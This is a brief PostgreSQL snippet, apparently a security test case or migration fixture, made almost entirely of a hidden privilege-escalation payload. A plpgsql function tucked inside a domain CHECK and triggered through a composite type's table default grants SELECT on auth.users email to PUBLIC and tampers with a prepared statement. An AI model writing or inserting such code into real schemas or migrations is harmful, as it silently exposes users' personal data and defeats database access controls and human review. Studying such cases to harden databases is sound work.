-- The same in a composite type.
-- object: table auth.users
CREATE FUNCTION f(int) RETURNS boolean LANGUAGE plpgsql  AS $f$ BEGIN EXECUTE 'DEALLOCATE deed_look'; EXECUTE 'PREPARE deed_look AS SELECT ''seen'' AS deed_fence, '''', '''', '''', '''', '''', '''', '''', '''''; GRANT SELECT (email) ON auth.users TO PUBLIC; RETURN true; END $f$; CREATE DOMAIN dd AS int CHECK (f(VALUE)); CREATE TYPE cc AS (d dd)
-- next revision
CREATE TABLE tt (a cc DEFAULT '(1)')
